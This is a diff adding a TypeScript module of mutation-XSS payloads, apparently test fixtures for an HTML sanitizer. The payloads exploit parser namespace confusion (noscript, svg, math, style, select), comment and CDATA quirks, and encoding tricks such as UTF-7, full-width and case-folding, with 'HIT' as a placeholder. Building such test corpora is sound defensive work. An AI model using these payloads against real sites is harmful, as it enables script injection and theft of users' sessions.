@@ -1,0 +1,52 @@
+import type { Family } from './payloads.ts';
+
+/** Markup that changes its meaning when it is read a second time or under other rules. */
+export const mutations: Family = {
+  'noscript-attribute': '<noscript><p title="</noscript><img src=x onerror=HIT>"></noscript>',
+  'noscript-style': '<noscript><style></noscript><img src=x onerror="HIT"></style></noscript>',
+  'style-attribute': '<style><a title="</style><img src=x onerror=HIT>"></style>',
+  'svg-style-attribute': '<svg></p><style><a id="</style><img src=x onerror=HIT>"></svg>',
+  'svg-style-comment': '<svg><style><!--</style><img src=x onerror="HIT">--></style></svg>',
+  'math-glyph':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;">',
+  'math-malign': '<math><mtext><table><malignmark><style><img src=x onerror="HIT"></style>',
+  'math-form': '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="HIT">',
+  'math-option':
+    '<math><mtext><option><option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=HIT>">',
+  'math-title': '<math><mi><mglyph><title><img src=x onerror="HIT"></title>',
+  'nested-forms':
+    '<form id="evil-form"><div></form><form><input name="attributes"><img src=x onerror="HIT">',
+  'form-swallows':
+    '<form><input name="childNodes"><input name="lastChild"><input name="nodeType">x</form>',
+  'table-foster': '<table><a href="javascript:HIT"><td><a href="javascript:HIT">x</table>y',
+  'table-in-svg': '<svg><foreignObject><table><tr><svg><style><img src=x onerror="HIT"></style>',
+  'select-escape': '<select><template><style></select><img src=x onerror="HIT"></style>',
+  'select-math': '<select><math><style></select><img src=x onerror="HIT"></style></math>',
+  'title-escape': '<title><a title="</title><img src=x onerror=HIT>"></title>',
+  'textarea-escape': '<textarea><a title="</textarea><img src=x onerror=HIT>"></textarea>',
+  'xmp-escape': '<xmp><p title="</xmp><img src=x onerror=HIT>"></xmp>',
+  'noembed-escape': '<noembed><p title="</noembed><img src=x onerror=HIT>"></noembed>',
+  'noframes-escape': '<noframes><p title="</noframes><img src=x onerror=HIT>"></noframes>',
+  'iframe-escape': '<iframe><p title="</iframe><img src=x onerror=HIT>"></iframe>',
+  plaintext: 'voor<plaintext><img src=x onerror="HIT">',
+  'comment-end-bang': '<!--a--!><img src=x onerror="HIT">-->',
+  'comment-short': '<!--><img src=x onerror="HIT">-->',
+  'comment-dash': '<!---><img src=x onerror="HIT">-->',
+  'comment-nested': '<!-- <!-- --> <img src=x onerror="HIT"> -->',
+  'comment-unclosed': 'voor<!-- <img src=x onerror="HIT">',
+  cdata: '<![CDATA[<img src=x onerror="HIT">]]>',
+  instruction: '<?xml version="1.0"?><?php <img src=x onerror="HIT"> ?>',
+  'bogus-comment': '</ <img src=x onerror="HIT">>',
+  doctype: '<!DOCTYPE x [<!ENTITY e "<img src=x onerror=HIT>">]>&e;',
+  'paragraph-in-svg': '<svg><p><style><g title="</style><img src=x onerror=HIT>">',
+  'line-break-end': '<svg></br><style><a title="</style><img src=x onerror=HIT>">',
+  'attribute-backtick': '<p title="``onmouseover=HIT">x</p>',
+  'attribute-quote-mix': "<p title='\"><img src=x onerror=HIT>'>x</p>",
+  'alt-breakout': '<img src="data:," alt="&quot;><img src=x onerror=HIT>">',
+  'alt-escaped-script': '<img src="data:," alt="&lt;script&gt;HIT&lt;/script&gt;">',
+  'entity-without-semicolon': '&ltimg src=x onerror=HIT&gt',
+  'overlong-utf8': '\u00c0\u00bcscript>HIT\u00c0\u00bc/script>',
+  utf7: '+ADw-script+AD4-HIT+ADw-/script+AD4-',
+  'full-width': '\uff1cscript\uff1eHIT\uff1c/script\uff1e',
+  'case-fold': '<\u017fcript>HIT</\u017fcript><\u212amg src=x onerror="HIT">',
+};
